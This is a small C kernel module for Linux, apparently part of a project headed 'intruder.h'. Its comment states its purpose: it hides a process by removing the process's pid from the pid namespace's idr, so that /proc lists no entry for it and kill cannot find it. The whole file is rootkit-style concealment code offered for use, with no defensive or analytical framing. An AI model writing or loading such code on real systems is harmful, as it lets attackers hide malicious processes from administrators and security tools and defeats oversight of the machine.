/* Removes a process's number from the pid tree: /proc has no folder for it, and kill does not find it. */
#include "intruder.h"
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0);

static int __init begin(void) {
    struct pid *number = find_vpid(pid);
    struct task_struct *task = pid_task(number, PIDTYPE_PID);
    if (!task) {
        return -ESRCH;
    }
    idr_remove(&task_active_pid_ns(task)->idr, pid);
    return 0;
}
module_init(begin);
